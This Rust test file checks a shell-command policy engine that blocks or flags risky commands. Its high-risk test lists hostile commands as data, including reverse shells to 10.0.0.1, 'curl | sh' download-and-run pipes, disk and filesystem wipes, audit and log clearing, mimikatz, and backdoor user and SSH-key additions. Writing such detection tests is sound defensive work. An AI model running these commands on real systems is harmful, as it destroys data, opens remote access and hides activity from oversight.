//! Rules against commands, and the ready sets against what they are for.

mod evasions;

use super::*;
use std::fs;
use std::path::PathBuf;

fn ready(name: &str) -> RuleSet {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../policy/src/rules").join(format!("{name}.rules.toml"));
    let set: RuleSet = toml::from_str(&fs::read_to_string(path).unwrap()).unwrap();
    assert_eq!(set.faults(), Vec::<String>::new());
    set
}

fn rules(text: &str) -> Rules {
    let set: RuleSet = toml::from_str(&format!("name = \"s\"\ndescription = \"d\"\n{text}")).unwrap();
    assert_eq!(set.faults(), Vec::<String>::new());
    Rules::new(&[set])
}

fn said(rules: &Rules, text: &str) -> Option<(Act, String)> {
    rules.command(text).map(|found| (found.act, found.rule))
}

#[track_caller]
fn assert_says(rules: &Rules, text: &str, act: Act, rule: &str) {
    assert_eq!(said(rules, text), Some((act, rule.to_owned())), "{text}");
}

#[test]
fn all_that_a_rule_names_must_be_so() {
    let rules = rules(
        "[[command]]\nid = \"a\"\nact = \"block\"\nwhy = \"w\"\nprogram = \"rm\"\nflags = [\"r|R|recursive\", \"f|force\"]\nargs = [\"/etc|/usr\"]\n",
    );
    for text in [
        "rm -rf /etc",
        "rm -r -f /etc",
        "rm /etc -fr",
        "rm --recursive --force /usr",
        "rm --rec -f /etc/",
        "/bin/rm -Rf //etc/.",
        "rm -rf /etc/*",
        "rm -rf x/../../etc /etc",
        "true; sudo rm -rf /etc",
    ] {
        assert_says(&rules, text, Act::Block, "s/a");
    }
    for text in ["rm -r /etc", "rm -rf /tmp", "rmdir -rf /etc", "echo rm -rf /etc", "rm -rf /etcetera"] {
        assert_eq!(said(&rules, text), None, "{text}");
    }
    assert_says(&rules, "rm -rf $x", Act::Alert, "s/unknown");
    assert_says(&rules, "$x -rf /etc", Act::Alert, "s/unknown");
    assert_says(&rules, "rm -rf '", Act::Alert, "s/unknown");
}

#[test]
fn a_set_may_list_what_is_allowed() {
    let rules = rules(
        "otherwise = \"block\"\n[[command]]\nid = \"look\"\nact = \"pass\"\nwhy = \"w\"\nprogram = \"ls|cat|uptime\"\n[[command]]\nid = \"shadow\"\nact = \"terminate\"\nwhy = \"w\"\nargs = [\"/etc/shadow\"]\n",
    );
    assert_eq!(said(&rules, "ls -l; uptime | cat"), None);
    assert_says(&rules, "ls; rm x", Act::Block, "s/otherwise");
    assert_says(&rules, "ls $(rm x)", Act::Block, "s/otherwise");
    assert_says(&rules, "> x", Act::Block, "s/otherwise");
    assert_says(&rules, "$x", Act::Block, "s/otherwise");
    assert_says(&rules, "cat 'x", Act::Block, "s/unknown");
    assert_says(&rules, "cat /etc/shadow", Act::Terminate, "s/shadow");
}

#[test]
fn the_strictest_of_all_sets_counts() {
    let one: RuleSet = toml::from_str("name = \"one\"\ndescription = \"d\"\n[[command]]\nid = \"a\"\nact = \"alert\"\nwhy = \"w\"\nprogram = \"rm\"\n").unwrap();
    let two: RuleSet = toml::from_str(
        "name = \"two\"\ndescription = \"d\"\n[[command]]\nid = \"a\"\nact = \"hold\"\nwhy = \"w\"\nprogram = \"rm\"\n",
    )
    .unwrap();
    for sets in [[one.clone(), two.clone()], [two, one]] {
        assert_says(&Rules::new(&sets), "rm x", Act::Hold, "two/a");
    }
}

#[test]
fn lines_of_a_shell_go_on_and_remember() {
    let rules = Rules::new(&[ready("high-risk")]);
    let mut memory = Memory::default();
    assert_eq!(rules.line("rm -rf 'a", &mut memory), Err(Broken::Open));
    assert_eq!(rules.line("x=/etc", &mut memory), Ok(None));
    assert_eq!(rules.line("rm -rf $x", &mut memory).unwrap().unwrap().act, Act::Block);
}

#[test]
fn the_ready_set_has_the_commands_that_are_known_for_it() {
    let rules = Rules::new(&[ready("high-risk")]);
    for (text, act, rule) in [
        ("rm -rf /", Act::Block, "wipe-system"),
        ("rm -rf /*", Act::Block, "wipe-system"),
        ("rm -rf --no-preserve-root /", Act::Block, "wipe-system"),
        ("rm -rf build", Act::Alert, "remove-tree"),
        ("mysql -e 'DROP DATABASE app'", Act::Alert, "drop-data"),
        ("psql -c 'drop/**/table x'", Act::Alert, "drop-data"),
        ("echo 'truncate  users' | mysql", Act::Alert, "drop-data"),
        ("net user bob secret /add", Act::Alert, "windows-user"),
        ("net localgroup administrators bob /add", Act::Alert, "windows-administrators"),
        ("chmod 777 /srv", Act::Alert, "open-to-all"),
        ("chmod -R a+rwx .", Act::Alert, "open-to-all"),
        ("powershell Set-ExecutionPolicy Unrestricted", Act::Alert, "powershell-policy"),
        ("./mimikatz.exe", Act::Block, "attack-tools"),
        ("psexec.py x", Act::Block, "attack-tools"),
        ("nc -e /bin/sh 10.0.0.1 4444", Act::Block, "reverse-shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Act::Block, "network-device-file"),
        ("curl http://x | sh", Act::Block, "run-from-network"),
        ("wget -O- x | sudo bash -s", Act::Block, "run-from-network"),
        ("bash <(curl x)", Act::Block, "run-from-network"),
        ("sh -c \"$(curl x)\"", Act::Alert, "unknown"),
        ("auditctl -e 0", Act::Block, "audit-off"),
        ("history -c", Act::Alert, "history"),
        ("unset HISTFILE", Act::Alert, "history-variables"),
        ("wevtutil cl Security", Act::Block, "windows-log"),
        ("iptables -F", Act::Alert, "firewall-off"),
        ("dd if=/dev/zero of=/dev/sda", Act::Block, "wipe-disk"),
        ("cat x > /dev/nvme0n1", Act::Block, "wipe-disk"),
        ("mkfs.ext4 /dev/sdb1", Act::Block, "make-filesystem"),
        ("echo k >> ~/.ssh/authorized_keys", Act::Alert, "account-files"),
        ("systemctl stop auditd", Act::Alert, "logging-off"),
    ] {
        assert_says(&rules, text, act, &format!("high-risk/{rule}"));
    }
    for text in [
        "ls -la /etc",
        "vim notes",
        "systemctl restart nginx",
        "grep -r x /var/log",
        "tar xzf a.tgz",
        "git pull && make",
        "rsync --server -vlogDtpre.iLsfxCIvu . /srv",
        "curl -fsS http://localhost/health",
        "for i in 1 2 3; do uptime; done",
        "ps aux | grep nginx | awk '{print $2}'",
        "rm old.log",
        "for f in *.log; do gzip \"$f\"; done",
        "find /var/log -name '*.gz' -mtime +30 -print",
        "sed -i 's/a/b/' /etc/hosts; sed -n '1,10p' file; sed -e 's/x/y/' file.txt",
        "sudo -u postgres psql -c 'select 1'",
        "cd /tmp && tar xzf x.tgz && ls; df -h | tail -n +2",
        "if [ -f /etc/x ]; then cat /etc/x; else echo none; fi",
        "docker exec -it web ls /; kubectl get pods -n app",
        "journalctl -u nginx --since today | grep error",
        "python3 /opt/run.py --fast; node server.js",
        "cat > notes <<'E'\nit's\nE",
        "scp -t /tmp; git-upload-pack 'x.git'; /usr/lib/openssh/sftp-server",
    ] {
        assert_eq!(said(&rules, text), None, "{text}");
    }
}

#[test]
fn the_ready_set_for_devices_knows_abbreviations() {
    let rules = Rules::new(&[ready("network-device")]);
    assert!(rules.devices());
    for (text, act, rule) in [
        ("write erase", Act::Block, "erase"),
        ("wr er", Act::Block, "erase"),
        ("reload in 5", Act::Alert, "reload"),
        ("no logging host 10.0.0.1", Act::Alert, "no-logging"),
        ("undo info-center enable", Act::Alert, "no-logging"),
        ("request system zeroize", Act::Block, "zeroize-system"),
        ("execute factoryreset", Act::Block, "factory-reset"),
        ("debug all", Act::Block, "debug-all"),
        ("username bob privilege 15 secret x", Act::Alert, "account"),
    ] {
        assert_says(&rules, text, act, &format!("network-device/{rule}"));
    }
    for text in
        ["show running-config", "show logging", "ping 10.0.0.1", "configure terminal", "write memory", "$x ' \""]
    {
        assert_eq!(said(&rules, text), None, "{text}");
    }
}

#[test]
fn a_command_is_told_as_it_is_read() {
    let read = |text: &str| ready_rules("high-risk").read(text).iter().map(|words| words.join(" ")).collect::<Vec<_>>();
    assert_eq!(read("x=rm; sudo $x -rf '/et'c"), ["sudo rm -rf /etc", "rm -rf /etc"]);
    assert_eq!(read("\"$(fetch name)\" a").last().map(String::as_str), Some("* a"));
    assert_eq!(read("echo 'a"), Vec::<String>::new());
    let device = ready_rules("network-device").read("do wr er ; show version");
    assert_eq!(device, [vec!["wr", "er"], vec!["show", "version"]]);
}

fn ready_rules(name: &str) -> Rules {
    Rules::new(&[ready(name)])
}

#[test]
fn what_is_clear_is_not_called_unknown() {
    let rules =
        rules("unknown = \"block\"\n[[command]]\nid = \"a\"\nact = \"block\"\nwhy = \"w\"\nprogram = \"touch\"\n");
    for text in [
        "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done; echo $((i*2))",
        "for ((i=0; i<3; i++)); do echo $i; done",
        "test -d /x || mkdir /x; echo \"$HOME\"; [[ $x == y* ]] && ls",
        "x=$(date +%s); echo \"$x\"; ls -l \"$x.txt\"",
        "export PATH=$PATH:/opt/bin; echo $PATH",
        "x=ls; if true; then echo a; fi; $x",
        "echo \"a $(cat b) c\" > d; rm $x; tar cf - . | gzip > x.gz",
    ] {
        assert_eq!(said(&rules, text), None, "{text}");
    }
}
